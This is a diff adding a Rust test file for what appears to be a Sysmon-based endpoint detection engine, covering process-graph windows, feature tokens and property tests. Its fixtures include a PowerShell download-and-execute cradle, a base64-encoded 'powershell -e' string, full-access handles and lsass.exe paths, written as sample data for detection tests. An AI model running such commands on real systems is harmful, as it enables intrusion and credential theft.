@@ -1,0 +1,360 @@
+//! What must hold of any panes, and what the merge alone can decide.
+
+use logster_schema::{Endpoint, Field, Fields, Kind, Lane, Position, RawTopic};
+use proptest::prelude::*;
+
+use super::*;
+use crate::features::{Tensors, tensors};
+
+pub(crate) const START: TimeMs = 1_800_000_000_000;
+const SHELL: &str = r"C:\Windows\System32\cmd.exe";
+const TOOL: &str = r"C:\Users\ann\AppData\Local\Temp\tool.exe";
+
+pub(crate) fn observation(at: i64, offset: i64, kind: Kind, fields: &[(Field, &str)]) -> Observation {
+    let mut builder = Fields::builder();
+    fields.iter().for_each(|(field, text)| {
+        builder.push(*field, text);
+    });
+    Observation {
+        endpoint: Endpoint::new("default", "h"),
+        platform: Platform::Windows,
+        time_ms: START + at,
+        arrival_ms: START + at,
+        lane: Lane::Live,
+        position: Position { topic: RawTopic::Sysmon, partition: 0, offset },
+        activity: logster_schema::Activity { kind, fields: builder.finish() },
+    }
+}
+
+fn guid(n: u8) -> String {
+    format_guid(0x1000 + u128::from(n))
+}
+
+/// The window of `observations`, sealed as panes that end at `cuts` (ms from the start).
+pub(crate) fn window(observations: &[Observation], cuts: &[i64]) -> WindowGraph {
+    let mut rest = observations;
+    let mut panes = Vec::new();
+    for cut in cuts.iter().chain([&i64::MAX]) {
+        let end = rest.partition_point(|o| o.time_ms - START < *cut);
+        panes.push(PaneGraph::seal(Platform::Windows, &rest[..end]));
+        rest = &rest[end..];
+    }
+    WindowGraph::merge(Platform::Windows, START, START + 180_000, &panes.iter().collect::<Vec<_>>())
+}
+
+fn created(at: i64, child: u8, parent: u8, image: &str) -> Observation {
+    let (child_guid, parent_guid, pid) = (guid(child), guid(parent), (100 + u32::from(child)).to_string());
+    observation(
+        at,
+        at,
+        Kind::Sysmon(1),
+        &[
+            (Field::ProcessGuid, &child_guid),
+            (Field::ProcessId, &pid),
+            (Field::Image, image),
+            (Field::CommandLine, "x"),
+            (Field::Company, "c"),
+            (Field::ParentProcessGuid, &parent_guid),
+            (Field::ParentImage, SHELL),
+        ],
+    )
+}
+
+fn opened(at: i64, source: u8, target: u8) -> Observation {
+    observation(
+        at,
+        at,
+        Kind::Sysmon(10),
+        &[
+            (Field::SourceProcessGuid, &guid(source)),
+            (Field::SourceImage, SHELL),
+            (Field::TargetProcessGuid, &guid(target)),
+            (Field::TargetImage, TOOL),
+            (Field::GrantedAccess, "0x1FFFFF"),
+        ],
+    )
+}
+
+fn wrote(at: i64, by: u8, path: &str) -> Observation {
+    observation(
+        at,
+        at,
+        Kind::Sysmon(11),
+        &[(Field::ProcessGuid, &guid(by)), (Field::Image, SHELL), (Field::TargetFilename, path)],
+    )
+}
+
+fn has(graph: &WindowGraph, process: u8, token: &str) -> bool {
+    let id = features::TokenId::new(token, true).id();
+    let node = graph.nodes().find(|n| n.guid() == Some(guid(process))).expect("the process is in the window");
+    node.tokens().any(|t| t.id() == id)
+}
+
+#[test]
+fn guids() {
+    let text = "{9c8ba0f1-0001-0002-0003-00000000abcd}";
+    assert_eq!(parse_guid(text).map(format_guid).as_deref(), Some(text));
+    assert_eq!(parse_guid(&text.to_uppercase()), parse_guid(text));
+    for bad in ["", "-", "{}", "{00000000-0000-0000-0000-000000000000}", "9c8ba0f1", &format!("{text}0"), "é"] {
+        assert_eq!(parse_guid(bad), None, "{bad}");
+    }
+}
+
+#[test]
+fn a_parents_handle_to_its_child_means_nothing() {
+    let log = [created(10_000, 2, 1, TOOL), opened(31_000, 1, 2), opened(32_000, 3, 2)];
+    let whole = window(&log, &[30_000]);
+    assert!(!has(&whole, 1, "f:acc_full"), "the creation is in the earlier pane");
+    assert!(has(&whole, 3, "f:acc_full"));
+    assert!(has(&window(&log[1..], &[30_000]), 1, "f:acc_full"), "without the creation, nobody knows");
+}
+
+#[test]
+fn a_file_that_is_written_and_then_run_marks_both() {
+    let log = [wrote(5_000, 1, TOOL), created(40_000, 2, 1, TOOL)];
+    for cuts in [&[][..], &[30_000]] {
+        let graph = window(&log, cuts);
+        assert!(has(&graph, 1, "f:wrote_run_file") && has(&graph, 2, "f:ran_written_file"));
+    }
+    let late = window(&[created(5_000, 2, 1, TOOL), wrote(40_000, 1, TOOL)], &[]);
+    assert!(!has(&late, 2, "f:ran_written_file"), "it ran before it was written");
+}
+
+#[test]
+fn a_script_block_joins_its_process_by_pid() {
+    let script = |at, pid| {
+        observation(
+            at,
+            at,
+            Kind::Sysmon(4104),
+            &[
+                (Field::ProcessId, pid),
+                (Field::ScriptBlockId, "b"),
+                (Field::ScriptBlockText, "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
+            ],
+        )
+    };
+    for cuts in [&[][..], &[30_000]] {
+        let graph = window(&[created(1_000, 2, 1, SHELL), script(40_000, "102")], cuts);
+        let processes = graph.nodes().filter(|n| n.kind() == NodeKind::Process).count();
+        assert_eq!((processes, graph.node_counts()["script"]), (2, 1));
+        let at = graph.nodes().position(|n| n.guid() == Some(guid(2))).expect("it is there");
+        let flag = features::TokenId::new("f:ps_download", true);
+        assert!(graph.tree_tokens()[at].contains(&flag), "what it ran counts as its own");
+    }
+    // No process of that pid is known: an instance of its own.
+    let graph = window(&[created(1_000, 2, 1, SHELL), script(40_000, "999")], &[]);
+    assert_eq!(graph.nodes().filter(|n| n.kind() == NodeKind::Process).count(), 3);
+    // The GUID comes later: the same process.
+    let mut later = opened(50_000, 7, 8);
+    let mut fields = Fields::builder();
+    later.activity.fields.iter().for_each(|(f, t)| {
+        fields.push(f, t);
+    });
+    fields.push(Field::SourceProcessId, "999");
+    later.activity.fields = fields.finish();
+    for cuts in [&[][..], &[45_000]] {
+        let graph = window(&[script(40_000, "999"), later.clone()], cuts);
+        assert_eq!(graph.nodes().filter(|n| n.kind() == NodeKind::Process).count(), 2);
+    }
+}
+
+#[test]
+fn suspicion_stops_at_hubs() {
+    let service = r"C:\Windows\System32\services.exe";
+    let mut below_hub = created(2_000, 3, 2, TOOL);
+    let mut fields = Fields::builder();
+    below_hub.activity.fields.iter().for_each(|(f, t)| {
+        fields.push(f, if f == Field::ParentImage { service } else { t });
+    });
+    below_hub.activity.fields = fields.finish();
+    let graph = window(&[created(1_000, 2, 1, service), below_hub, created(3_000, 4, 3, SHELL)], &[]);
+    let tree = graph.tree_tokens();
+    let flag = features::TokenId::new("f:img_user", true);
+    let shows = |n| tree[graph.nodes().position(|node| node.guid() == Some(guid(n))).expect("known")].contains(&flag);
+    assert!(shows(3) && shows(4), "own, and a parent's");
+    assert!(!shows(2) && !shows(1), "not past services.exe");
+}
+
+#[test]
+fn a_flood_of_files_is_bounded() {
+    let log: Vec<_> = (0..MAX_NODES as i64 + 500)
+        .map(|n| {
+            let path = format!(r"C:\x\{n}.txt");
+            observation(
+                n % 20_000,
+                n,
+                Kind::Sysmon(11),
+                &[(Field::ProcessGuid, &guid(1)), (Field::Image, SHELL), (Field::TargetFilename, &path)],
+            )
+        })
+        .collect();
+    let graph = window(&log, &[]);
+    assert!(graph.num_nodes() as usize <= MAX_NODES + NodeKind::ALL.len());
+    assert_eq!(graph.edges().iter().map(|e| e.count).sum::<u32>() as usize, log.len(), "every event is counted");
+}
+
+#[test]
+fn sentences_are_distinct_and_bounded() {
+    let long = format!(r"C:\Users\ann\{}\a.dll", "d".repeat(3_000));
+    let log = [wrote(1_000, 1, &long), wrote(2_000, 1, &long), created(3_000, 2, 1, TOOL)];
+    let graph = window(&log, &[]);
+    let edges = graph.key_edges(&[], 10);
+    assert_eq!(edges.len(), graph.num_edges() as usize);
+    assert!(edges.iter().all(|e| e.sentence.chars().count() < 400), "{edges:?}");
+    assert!(edges.iter().any(|e| e.sentence.starts_with("cmd.exe wrote ") && e.sentence.ends_with(" 2 times")));
+    assert!(edges.is_sorted_by(|a, b| a.weight >= b.weight));
+    assert!(edges.iter().map(|e| e.weight).sum::<f32>() <= 1.001);
+    let first = graph.key_edges(&[(f32::NAN, 0.0), (f32::INFINITY, -1.0)], 1);
+    assert_eq!(first.len(), 1, "odd attention is no reason to fail");
+}
+
+/// Events of processes with GUIDs, each always under the same image.
+fn event() -> impl Strategy<Value = (i64, u8, u8, u8)> {
+    (0i64..180_000, 0u8..5, 0u8..5, 0u8..6)
+}
+
+fn image(n: u8) -> &'static str {
+    [SHELL, TOOL, r"C:\Windows\explorer.exe", r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\lsass.exe"]
+        [n as usize % 5]
+}
+
+fn log_of(events: &[(i64, u8, u8, u8)]) -> Vec<Observation> {
+    let mut log: Vec<_> = events
+        .iter()
+        .enumerate()
+        .map(|(offset, &(at, a, b, what))| {
+            let (ga, gb) = (guid(a), guid(b));
+            let actor = [(Field::ProcessGuid, &*ga), (Field::Image, image(a))];
+            let both = [
+                (Field::SourceProcessGuid, &*ga),
+                (Field::SourceImage, image(a)),
+                (Field::TargetProcessGuid, &*gb),
+                (Field::TargetImage, image(b)),
+            ];
+            let (kind, fields) = match what {
+                0 => (
+                    1,
+                    [
+                        &actor[..],
+                        &[
+                            (Field::CommandLine, "cmd /c whoami"),
+                            (Field::ParentProcessGuid, &gb),
+                            (Field::ParentImage, image(b)),
+                        ],
+                    ]
+                    .concat(),
+                ),
+                1 => (10, [&both[..], &[(Field::GrantedAccess, "0x1410"), (Field::CallTrace, "UNKNOWN(1)")]].concat()),
+                2 => (8, both.to_vec()),
+                3 => (11, [&actor[..], &[(Field::TargetFilename, image(b))]].concat()),
+                4 => (7, [&actor[..], &[(Field::ImageLoaded, image(b)), (Field::Signed, "false")]].concat()),
+                _ => (
+                    3,
+                    [
+                        &actor[..],
+                        &[
+                            (Field::Initiated, "true"),
+                            (Field::DestinationIp, "8.8.8.8"),
+                            (Field::DestinationPort, "443"),
+                        ],
+                    ]
+                    .concat(),
+                ),
+            };
+            observation(at, offset as i64, Kind::Sysmon(kind), &fields)
+        })
+        .collect();
+    log.sort_by_key(Observation::order);
+    log
+}
+
+/// The tensors but for the number of active panes, which a cut changes by its nature.
+fn comparable(graph: &WindowGraph) -> Tensors {
+    let mut t = tensors(&[graph]);
+    t.graph_feat.pop();
+    t
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(128))]
+
+    /// A window is the same wherever its panes were cut.
+    #[test]
+    fn pane_boundaries_leave_no_trace(
+        events in proptest::collection::vec(event(), 0..40),
+        mut cuts in proptest::collection::vec(0i64..180_000, 0..6),
+    ) {
+        cuts.sort_unstable();
+        let log = log_of(&events);
+        let (whole, cut) = (window(&log, &[]), window(&log, &cuts));
+        prop_assert_eq!(whole.edges(), cut.edges());
+        prop_assert_eq!(comparable(&whole), comparable(&cut));
+        prop_assert_eq!(whole.findings(), cut.findings());
+        prop_assert_eq!(whole.peers(), cut.peers());
+        prop_assert_eq!(whole.key_edges(&[], 5), cut.key_edges(&[], 5));
+    }
+
+    /// The union of graphs is their tensors one after the other.
+    #[test]
+    fn a_batch_is_its_graphs(
+        a in proptest::collection::vec(event(), 0..20),
+        b in proptest::collection::vec(event(), 0..20),
+    ) {
+        let (a, b) = (window(&log_of(&a), &[]), window(&log_of(&b), &[]));
+        let (ta, tb, both) = (tensors(&[&a]), tensors(&[&b]), tensors(&[&a, &b]));
+        prop_assert_eq!(both.num_graphs(), 2);
+        prop_assert_eq!(&both.node_feat, &[ta.node_feat, tb.node_feat].concat());
+        prop_assert_eq!(&both.edge_feat, &[ta.edge_feat, tb.edge_feat].concat());
+        prop_assert_eq!(&both.tree_id, &[ta.tree_id, tb.tree_id].concat());
+        prop_assert!(both.edge_dst.is_sorted());
+        prop_assert!(both.edge_src.iter().chain(&both.edge_dst).all(|&n| n < both.num_nodes() as i64));
+        prop_assert!(both.node_feat.iter().chain(&both.edge_feat).all(|x| x.is_finite()));
+    }
+
+    /// Whatever the fields hold, a pane is sealed, merged and described.
+    #[test]
+    fn nothing_makes_it_panic(
+        events in proptest::collection::vec(
+            (
+                any::<i32>(),
+                prop_oneof![(1u16..30).boxed(), Just(255).boxed(), Just(4104).boxed(), any::<u16>().boxed()],
+                proptest::collection::vec((0..Field::ALL.len(), text()), 0..12),
+            ),
+            0..12,
+        ),
+    ) {
+        let mut log: Vec<_> = events
+            .iter()
+            .enumerate()
+            .map(|(offset, (at, kind, fields))| {
+                let fields: Vec<_> = fields.iter().map(|(f, t)| (Field::ALL[*f], &**t)).collect();
+                observation(i64::from(*at), offset as i64, Kind::Sysmon(*kind), &fields)
+            })
+            .collect();
+        log.sort_by_key(Observation::order);
+        let graph = window(&log, &[0]);
+        let t = tensors(&[&graph]);
+        prop_assert_eq!(t.num_edges(), graph.num_edges() as usize);
+        let _ = (graph.findings(), graph.key_edges(&[], 20), graph.peers(), graph.process_names());
+    }
+}
+
+fn text() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "\\PC{0,30}",
+        "[-/\\\\:.\"' >|$%a-eA-E0-9]{0,40}",
+        proptest::sample::select(vec![
+            "{9c8ba0f1-0001-0002-0003-00000000abcd}",
+            r"C:\Windows\System32\lsass.exe",
+            r"\\srv\c$\a.exe",
+            "powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+            "0x1fffff",
+            "true",
+            "4711",
+            "::1",
+            r"HKLM\System\CurrentControlSet\Services\x\ImagePath",
+        ])
+        .prop_map(str::to_owned),
+    ]
+}
